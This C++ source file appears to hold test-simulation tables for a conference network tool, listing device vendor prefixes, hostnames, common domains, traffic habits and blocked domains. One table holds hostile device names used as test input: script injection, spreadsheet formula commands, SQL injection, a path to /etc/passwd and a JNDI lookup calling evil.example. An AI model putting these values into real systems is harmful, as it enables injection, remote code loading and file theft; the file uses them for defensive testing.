// The tables. Names that the shipped lists (deploy/lists) put to a service, or of reserved domains; nothing is ever sent to them.
// SPDX-License-Identifier: Apache-2.0
#include "tests/sim/event/words.hpp"

#include <array>

namespace vivi::sim::event {
namespace {

using Text = std::string_view;

// Prefixes of https://standards-oui.ieee.org/oui/oui.txt.
constexpr std::array<std::uint32_t, 1> apple_prefixes{0x3c22fb};
constexpr std::array<std::uint32_t, 3> laptop_prefixes{0x3c22fb, 0x3ca9f4, 0x54bf64};  // Apple, Intel, Dell
constexpr std::array<std::uint32_t, 2> console_prefixes{0x98b6e9, 0x00d9d1};           // Nintendo, Sony Interactive Entertainment
constexpr std::array<std::uint32_t, 1> screen_prefixes{0x388c50};                      // LG Electronics
constexpr std::array<std::uint32_t, 1> camera_prefixes{0x00408c};                      // Axis Communications
constexpr std::array<std::uint32_t, 1> printer_prefixes{0x3cd92b};                     // Hewlett Packard
constexpr std::array<std::uint32_t, 3> board_prefixes{0xb827eb, 0xdca632, 0x240ac4};   // Raspberry Pi (two), Espressif
constexpr std::array<std::uint32_t, 2> desktop_prefixes{0x54bf64, 0x3ca9f4};           // Dell, Intel

constexpr std::array<Text, 12> phone_names{"iPhone",        "iPhone",     "iPhone de %",    "iPhone von %",
                                           "%s iPhone",     "Pixel-9",    "Galaxy-S24",     "Galaxy S23 von %",
                                           "Redmi-Note-13", "OnePlus-12", "Telephone de %", "iphone-%"};
constexpr std::array<Text, 4> tablet_names{"iPad", "iPad de %", "Galaxy-Tab-S9", "%s iPad"};
constexpr std::array<Text, 9> laptop_names{"MacBook-Pro-von-%", "MacBook Air de %", "DESKTOP-#",
                                           "LAPTOP-#",          "thinkpad-%",       "xps13",
                                           "PC portable de %",  "framework-%",      "notebook-#"};
constexpr std::array<Text, 4> console_names{"Nintendo-Switch", "steamdeck", "PS5-#", "Xbox-#"};
constexpr std::array<Text, 3> screen_names{"signage-#", "LG-TV-#", "stage-screen-#"};
constexpr std::array<Text, 2> camera_names{"axis-cam-#", "camera-#"};
constexpr std::array<Text, 2> printer_names{"badge-printer-#", "NPI3CD9#"};
constexpr std::array<Text, 3> board_names{"raspberrypi-#", "esp-#", "badge-scanner-#"};
constexpr std::array<Text, 3> desktop_names{"regie-pc-#", "registration-pc-#", "streaming-pc-#"};

constexpr std::array<Text, 14> phone_sites{"scontent.cdninstagram.com", "www.instagram.com",  "mmg.whatsapp.net",
                                           "web.whatsapp.com",          "i.ytimg.com",        "rr3---sn-4g5e6nez.googlevideo.com",
                                           "audio4-fa.scdn.co",         "www.leboncoin.fr",   "api.telegram.org",
                                           "static.xx.fbcdn.net",       "gateway.discord.gg", "en.wikipedia.org",
                                           "p42-content.icloud.com",    "mail.google.com"};
constexpr std::array<Text, 6> tablet_sites{"ipv4-c012-par001.nflxvideo.net",
                                           "rr3---sn-4g5e6nez.googlevideo.com",
                                           "fr.wikipedia.org",
                                           "p42-content.icloud.com",
                                           "www.arte.tv",
                                           "docs.google.com"};
constexpr std::array<Text, 14> laptop_sites{"github.com",
                                            "objects.githubusercontent.com",
                                            "files.slack.com",
                                            "teams.microsoft.com",
                                            "zoom.us",
                                            "docs.google.com",
                                            "outlook.office.com",
                                            "registry.codeforge.example",
                                            "de.wikipedia.org",
                                            "www.notion.so",
                                            "rr5---sn-4g5e6nsz.googlevideo.com",
                                            "claude.ai",
                                            "chatgpt.com",
                                            "cdn.discordapp.com"};
constexpr std::array<Text, 5> console_sites{"cache1-par1.steamcontent.com", "gs2.ww.prod.dl.playstation.net",
                                            "atum.hac.lp1.d4c.nintendo.net", "video-edge-c2a4.par03.abs.hls.ttvnw.net",
                                            "assets1.xboxlive.com"};
constexpr std::array<Text, 2> screen_sites{"signage.openfest.example", "video-edge-c2a4.par03.abs.hls.ttvnw.net"};
constexpr std::array<Text, 1> camera_sites{"ingest.openfest.example"};
constexpr std::array<Text, 1> printer_sites{"updates.printers.example"};
constexpr std::array<Text, 2> board_sites{"mqtt.openfest.example", "time.openfest.example"};
constexpr std::array<Text, 4> desktop_sites{"live.openfest.example", "tickets.openfest.example", "docs.google.com", "github.com"};

constexpr std::array<Habits, kinds> all_habits{
    Habits{.per_thousand = 620,
           .hidden_percent = 90,
           .nameless_percent = 35,
           .bytes_a_second = 14e3,
           .upward = 0.08,
           .busy = 0.03,
           .vendor_class = "android-dhcp-15",
           .makers = apple_prefixes,
           .names = phone_names,
           .favourites = phone_sites},
    Habits{.per_thousand = 40,
           .hidden_percent = 90,
           .nameless_percent = 20,
           .bytes_a_second = 45e3,
           .upward = 0.04,
           .busy = 0.06,
           .makers = apple_prefixes,
           .names = tablet_names,
           .favourites = tablet_sites},
    Habits{.per_thousand = 230,
           .hidden_percent = 15,
           .nameless_percent = 10,
           .bytes_a_second = 55e3,
           .upward = 0.15,
           .busy = 0.06,
           .vendor_class = "MSFT 5.0",
           .makers = laptop_prefixes,
           .names = laptop_names,
           .favourites = laptop_sites},
    Habits{.per_thousand = 30,
           .nameless_percent = 20,
           .bytes_a_second = 150e3,
           .upward = 0.03,
           .busy = 0.15,
           .makers = console_prefixes,
           .names = console_names,
           .favourites = console_sites},
    Habits{.per_thousand = 25,
           .is_staff_gear = true,
           .bytes_a_second = 220e3,
           .upward = 0.02,
           .busy = 0.3,
           .makers = screen_prefixes,
           .names = screen_names,
           .favourites = screen_sites},
    Habits{.per_thousand = 15,
           .is_staff_gear = true,
           .bytes_a_second = 6e3,
           .upward = 60.0,
           .busy = 0.3,
           .vendor_class = "AXIS,Network Camera,P3245-V",
           .makers = camera_prefixes,
           .names = camera_names,
           .favourites = camera_sites},
    Habits{.per_thousand = 10,
           .is_staff_gear = true,
           .bytes_a_second = 200,
           .upward = 0.5,
           .busy = 0.02,
           .vendor_class = "Hewlett-Packard JetDirect",
           .makers = printer_prefixes,
           .names = printer_names,
           .favourites = printer_sites},
    Habits{.per_thousand = 15,
           .is_staff_gear = true,
           .bytes_a_second = 300,
           .upward = 1.2,
           .busy = 0.05,
           .vendor_class = "dhcpcd-9.4.1:Linux-6.6.31+rpt-rpi-v8:aarch64:BCM2835",
           .makers = board_prefixes,
           .names = board_names,
           .favourites = board_sites},
    Habits{.per_thousand = 15,
           .is_staff_gear = true,
           .bytes_a_second = 90e3,
           .upward = 1.5,
           .busy = 0.15,
           .vendor_class = "MSFT 5.0",
           .makers = desktop_prefixes,
           .names = desktop_names,
           .favourites = desktop_sites},
};

constexpr std::array<Text, 30> people{"Ada",   "Chloé", "Jonas", "Zoé",   "Łukasz", "Søren",  "İpek",  "Ольга", "Дмитро", "Μαρία",
                                      "美咲",  "健太",  "서연",  "伟",    "سارة",   "محمد",   "נועה",  "आरव",   "สมชาย",  "Ngọc",
                                      "Marta", "Inês",  "Björn", "Aoife", "Fatou",  "Thiago", "Émile", "Anaïs", "Jürgen", "Noor"};

constexpr std::array<Hostile, 10> strange{
    Hostile{"<script>alert(1)</script>", "<script>alert('vivi')</script>"},
    Hostile{"=cmd()", "=cmd|'/C calc'!A0"},
    Hostile{"@SUM(1+9)*cmd", "+HYPERLINK(\"http://evil.example\")"},
    Hostile{"'; drop table devices; --", "' or ''='"},
    Hostile{"../../../etc/passwd", "${jndi:ldap://evil.example/a}"},
    Hostile{"\xE2\x80\xAEmoc.elpmaxe", "%s%s%s%n"},
    Hostile{"\"><img src=x onerror=alert(1)>", "\"><img src=x onerror=alert(1)>"},
    Hostile{"\x01\x02\x07 bell\r\nX-Header: 1", "{{constructor.constructor('alert(1)')()}}"},
    Hostile{"an-extremely-long-name-that-somebody-typed-to-see-where-it-ends-and-that-does-not-end-here-nor-here-nor-anywhere",
            ""},
    Hostile{"-.-..--", "null"},
};

constexpr std::array<Fresh, 8> fresh{
    Fresh{"photo-wall.openfest.example", Minutes{318}, 45}, Fresh{"quiz.openfest.example", Minutes{325}, 60},
    Fresh{"free-vpn-unlimited.example", Minutes{335}, 4},   Fresh{"cdn-update-check.example", Minutes{356}, 2},
    Fresh{"afterparty-tickets.example", Minutes{400}, 25},  Fresh{"lost-and-found.openfest.example", Minutes{430}, 3},
    Fresh{"karaoke.openfest.example", Minutes{560}, 20},    Fresh{"feedback.openfest.example", Minutes{690}, 35},
};

constexpr std::array<Text, 2> talk_names{"app.openfest.example", "slides.openfest.example"};
constexpr std::array<Text, 2> lunch_names{"app.openfest.example", "menu.foodtrucks.example"};
constexpr std::array<Text, 2> evening_names{"video-edge-c2a4.par03.abs.hls.ttvnw.net", "audio4-fa.scdn.co"};
constexpr std::array<Text, 2> door_names{"app.openfest.example", "tickets.openfest.example"};

constexpr std::array<Text, 5> refused{"metrics.trackwell.example", "www.tiktok.com", "announce.opentorrents.example",
                                      "play.casino-spin.example", "v16-webapp.tiktokcdn.com"};
constexpr std::array<Text, 5> denied{"trackwell.example", "tiktok.com", "tiktokcdn.com", "opentorrents.example",
                                     "casino-spin.example"};

}  // namespace

const Habits& habits_of(Kind kind) { return all_habits.at(static_cast<std::size_t>(kind)); }

std::span<const std::string_view> first_names() { return people; }

std::span<const Hostile> hostile_names() { return strange; }

std::span<const Fresh> fresh_names() { return fresh; }

std::span<const std::string_view> names_of(Phase phase) {
    switch (phase) {
        case Phase::SetUp: return {};
        case Phase::DoorsOpen: return door_names;
        case Phase::MorningTalks:
        case Phase::AfternoonTalks: return talk_names;
        case Phase::Lunch: return lunch_names;
        case Phase::Evening: return evening_names;
        case Phase::Closing: return {};
    }
    return {};
}

double level_of(Phase phase) {
    switch (phase) {
        case Phase::SetUp: return 0.6;
        case Phase::DoorsOpen: return 0.7;
        case Phase::MorningTalks: return 0.5;
        case Phase::Lunch: return 1.0;
        case Phase::AfternoonTalks: return 0.6;
        case Phase::Evening: return 0.9;
        case Phase::Closing: return 0.3;
    }
    return 0;
}

std::span<const std::string_view> refused_names() { return refused; }

std::span<const std::string_view> denied_domains() { return denied; }

}  // namespace vivi::sim::event
